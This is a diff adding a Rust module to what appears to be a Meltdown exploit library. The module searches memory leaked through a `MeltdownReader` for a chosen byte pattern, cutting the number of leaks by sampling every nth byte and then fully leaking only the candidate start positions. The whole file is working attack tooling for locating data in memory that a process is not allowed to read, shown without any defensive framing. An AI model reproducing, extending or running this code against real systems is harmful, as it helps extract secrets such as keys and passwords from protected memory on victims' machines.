@@ -0,0 +1,99 @@
+//! Searching leaked memory for a byte pattern without leaking all of it.
+//!
+//! Any occurrence of a pattern of `n` bytes covers exactly one of every
+//! `n`th byte, so a coarse pass leaks only those. Each one that equals some
+//! byte of the pattern gives a place where the pattern could start, and
+//! only those places are leaked in full to refine the search. For patterns
+//! longer than a few bytes, that is a fraction of the leaks of reading the
+//! whole range. An occurrence is only missed if the byte of it the coarse
+//! pass samples doesn't leak.
+
+use reader::MeltdownReader;
+use suppress::ExceptionSuppressor;
+
+/// The addresses the pattern is found at, in ascending order, found as the
+/// iterator is advanced. Returned by `find`.
+pub struct Matches<'a, 'p, S: ExceptionSuppressor + 'a> {
+    reader: &'a MeltdownReader<S>,
+    pattern: &'p [u8],
+    start: usize,
+    end: usize,
+    // the next byte the coarse pass leaks, None once it is past the end
+    next_sample: Option<usize>,
+    // where the pattern could start, by the last sample, highest first so
+    // that popping goes in ascending order
+    candidates: Vec<usize>,
+}
+
+/// Searches the `len` bytes from `addr` for `pattern`, which can't be
+/// empty.
+pub fn find<'a, 'p, S: ExceptionSuppressor>(
+    reader: &'a MeltdownReader<S>,
+    addr: usize,
+    len: usize,
+    pattern: &'p [u8],
+) -> Matches<'a, 'p, S> {
+    assert!(!pattern.is_empty(), "can't search for an empty pattern");
+    Matches {
+        reader,
+        pattern,
+        start: addr,
+        end: addr.saturating_add(len),
+        next_sample: addr.checked_add(pattern.len() - 1),
+        candidates: Vec::new(),
+    }
+}
+
+impl<'a, 'p, S: ExceptionSuppressor> Matches<'a, 'p, S> {
+    // leaks the next sample, and finds the places the pattern could start
+    // given its value. returns false once there are no more samples
+    fn sample(&mut self) -> bool {
+        let addr = match self.next_sample {
+            Some(addr) if addr < self.end => addr,
+            _ => return false,
+        };
+        let len = self.pattern.len();
+        self.next_sample = addr.checked_add(len);
+        let byte = match self.reader.read_byte(addr as *const u8) {
+            Some(byte) => byte,
+            None => return true,
+        };
+        for (i, &expected) in self.pattern.iter().enumerate() {
+            if expected != byte || addr - i < self.start {
+                continue;
+            }
+            let candidate = addr - i;
+            if candidate.checked_add(len).map_or(false, |end| end <= self.end) {
+                self.candidates.push(candidate)
+            }
+        }
+        true
+    }
+
+    // leaks the whole of a candidate
+    fn verify(&self, candidate: usize) -> bool {
+        let leaked = self.reader
+            .read_range(candidate as *const u8, self.pattern.len());
+        leaked
+            .iter()
+            .zip(self.pattern)
+            .all(|(&leaked, &expected)| leaked == Some(expected))
+    }
+}
+
+impl<'a, 'p, S: ExceptionSuppressor> Iterator for Matches<'a, 'p, S> {
+    type Item = usize;
+
+    fn next(&mut self) -> Option<usize> {
+        loop {
+            match self.candidates.pop() {
+                Some(candidate) => if self.verify(candidate) {
+                    return Some(candidate);
+                },
+                None => if !self.sample() {
+                    return None;
+                },
+            }
+        }
+    }
+}